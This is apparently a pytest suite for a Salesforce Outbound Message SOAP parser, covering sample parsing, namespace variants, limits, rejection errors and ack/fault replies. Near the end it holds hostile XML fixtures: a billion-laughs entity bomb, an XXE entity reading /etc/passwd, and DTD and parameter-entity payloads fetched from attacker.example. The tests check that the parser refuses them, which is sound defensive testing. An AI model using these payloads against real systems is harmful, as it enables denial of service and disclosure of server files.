"""Outbound Message parsing and replies: the samples in events/, namespace variants, limits, hostile XML."""

from __future__ import annotations

import time
from datetime import UTC, datetime

import pytest
from defusedxml import ElementTree

from sf_bigtime.ingest.errors import InboundError
from sf_bigtime.ingest.outbound_message import MAX_NOTIFICATIONS, parse_outbound_message
from sf_bigtime.ingest.soap import ack, fault
from tests.paths import EVENTS

ORG18 = "00D5w000004abcdEAA"


def envelope(notifications: str, org: str = ORG18, extra: str = "") -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" '
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><soapenv:Body>'
        '<notifications xmlns="http://soap.sforce.com/2005/09/outbound">'
        f"<OrganizationId>{org}</OrganizationId><ActionId>04k5w000000abcdAAA</ActionId>{extra}"
        f"{notifications}</notifications></soapenv:Body></soapenv:Envelope>"
    ).encode()


def notification(nid: str = "04l5w00000abcdeAAA", opp: str = "0065w000023abcdAAA", fields: str = "") -> str:
    return (
        f"<Notification><Id>{nid}</Id>"
        '<sObject xsi:type="sf:Opportunity" xmlns:sf="urn:sobject.enterprise.soap.sforce.com">'
        f"<sf:Id>{opp}</sf:Id>{fields}</sObject></Notification>"
    )


def refused(body: bytes) -> InboundError:
    with pytest.raises(InboundError) as info:
        parse_outbound_message(body)
    assert info.value.status == 400
    return info.value


def test_sample_with_three_notifications() -> None:
    message = parse_outbound_message((EVENTS / "outbound-message.xml").read_bytes())
    assert message.org_id == ORG18 and message.action_id == "04k5w000000abcdAAA"
    requests = message.to_requests()
    assert [(r.delivery_id, r.opportunity_id, r.account_id) for r in requests] == [
        ("04l5w00000abcdeAAA", "0065w000023abcdAAA", "0015w00002abcdeAAA"),
        ("04l5w00000abcdfAAA", "0065w000023abceAAA", "0015w00002abcdfAAA"),
        ("04l5w00000abcdgAAA", "0065w000023abcfAAA", None),  # null fields are omitted
    ]
    assert {r.source for r in requests} == {"outbound_message"}
    assert {r.org_id for r in requests} == {ORG18}
    assert requests[0].stage_name == "Closed Won"
    assert requests[0].last_modified_date == datetime(2026, 7, 9, 3, 4, 32, tzinfo=UTC)


def test_namespace_variant_sample_means_the_same() -> None:
    # other prefixes, dated sObject namespace, 15-character ids, xsi:nil, an undeclared xsi prefix, CDATA
    message = parse_outbound_message((EVENTS / "outbound-message-namespace-variant.xml").read_bytes())
    assert message.org_id == ORG18  # the 15-character OrganizationId, normalised
    first, second = message.to_requests()
    assert (first.delivery_id, first.opportunity_id, first.account_id) == (
        "04l5w00000abcde",  # kept as sent: Salesforce repeats exactly this on a retry
        "0065w000023abcdAAA",
        None,  # xsi:nil="true"
    )
    assert (second.opportunity_id, second.account_id, second.stage_name) == (
        "0065w000023abceAAA",
        "0015w00002abcdfAAA",
        "Closed Won",
    )


def test_fields_we_do_not_read_and_unknown_elements_are_skipped() -> None:
    fields = "<sf:Description>" + "x" * 10_000 + "</sf:Description><sf:Custom__c><a>1</a></sf:Custom__c>"
    extra = "<SessionId>00Dxx!secret-session</SessionId><Unknown><Deeper/></Unknown>"
    message = parse_outbound_message(envelope(notification(fields=fields), extra=extra))
    assert len(message.notifications) == 1


def test_up_to_100_notifications_and_not_one_more() -> None:
    hundred = "".join(notification(nid=f"04l5w0000{i:06d}") for i in range(MAX_NOTIFICATIONS))
    assert len(parse_outbound_message(envelope(hundred)).notifications) == MAX_NOTIFICATIONS
    error = refused(envelope(hundred + notification(nid="04l5w0000999999")))
    assert "more than 100 Notification" in error.message


@pytest.mark.parametrize(
    ("body", "code", "text"),
    [
        (envelope(""), "invalid_outbound_message", "has no Notification"),
        (envelope(notification(), org=""), "invalid_outbound_message", "OrganizationId"),
        (envelope(notification(), org="001000000000001"), "invalid_outbound_message", "OrganizationId"),
        (envelope(notification(opp="0015w00002abcdeAAA")), "invalid_outbound_message", "Opportunity id"),
        (envelope(notification(nid="")), "invalid_outbound_message", "Notification[0]/Id"),
        (
            envelope(notification(fields="<sf:AccountId>0065w000023abcdAAA</sf:AccountId>")),
            "invalid_outbound_message",
            "Notification[0]/sObject/AccountId",
        ),
        (
            envelope(notification(fields="<sf:Id>0065w000023abceAAA</sf:Id>")),
            "invalid_outbound_message",
            "appears more than once",
        ),
        (
            envelope(notification().replace("sf:Opportunity", "sf:Account")),
            "not_an_opportunity",
            "Opportunity outbound messages only",
        ),
        (
            envelope("<Notification><Id>04l5w00000abcdeAAA</Id></Notification>"),
            "invalid_outbound_message",
            "sObject/Id is missing",
        ),
        (b"<notifications/>", "invalid_outbound_message", "expected a SOAP Envelope"),
        (
            b'<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"><e:Body/></e:Envelope>',
            "invalid_outbound_message",
            "no Outbound Message notifications",
        ),
        (b"", "malformed_xml", "not well-formed"),
        (b"<Envelope><Body>", "malformed_xml", "not well-formed"),
        (b"\xff\xfe\x00<", "malformed_xml", "not well-formed"),
        (b'<?xml version="1.0" encoding="x-unknown"?><Envelope/>', "malformed_xml", "not well-formed"),
        (b"<Envelope>&undefined;</Envelope>", "malformed_xml", "not well-formed"),
        (b"<a>" * 40 + b"</a>" * 40, "invalid_outbound_message", "expected a SOAP Envelope"),
        (b"<Envelope>" * 40 + b"</Envelope>" * 40, "invalid_outbound_message", "nested more than"),
    ],
)
def test_rejections_say_what_is_wrong(body: bytes, code: str, text: str) -> None:
    error = refused(body)
    assert error.code == code
    assert text in error.message


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>
<notifications><OrganizationId>&lol9;</OrganizationId></notifications></soapenv:Body></soapenv:Envelope>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>
<notifications><OrganizationId>&xxe;</OrganizationId></notifications></soapenv:Body></soapenv:Envelope>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Envelope SYSTEM "http://attacker.example/evil.dtd">
<Envelope/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Envelope [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>
<Envelope/>"""


@pytest.mark.parametrize(
    "document",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity"],
)
def test_dtds_and_entities_are_refused_at_once(document: bytes) -> None:
    start = time.perf_counter()
    error = refused(document)
    assert time.perf_counter() - start < 0.5  # refused before anything is expanded or fetched
    assert error.code == "xml_dtd_forbidden"
    assert "DTD" in error.message


def test_ack_is_what_salesforce_expects() -> None:
    root = ElementTree.fromstring(ack())
    assert root.tag == "{http://schemas.xmlsoap.org/soap/envelope/}Envelope"
    [acked] = root.iter("{http://soap.sforce.com/2005/09/outbound}Ack")
    assert acked.text == "true"
    [response] = root.iter("{http://soap.sforce.com/2005/09/outbound}notificationsResponse")
    assert response is not None


@pytest.mark.parametrize(("server", "code"), [(False, "soapenv:Client"), (True, "soapenv:Server")])
def test_fault_is_soap_1_1_and_escapes_the_message(server: bool, code: str) -> None:
    root = ElementTree.fromstring(fault("bad <value> & more", server=server))
    ns = "{http://schemas.xmlsoap.org/soap/envelope/}"
    [element] = root.iter(f"{ns}Fault")
    assert element.findtext("faultcode") == code
    assert element.findtext("faultstring") == "bad <value> & more"
    assert not list(root.iter("{http://soap.sforce.com/2005/09/outbound}Ack"))
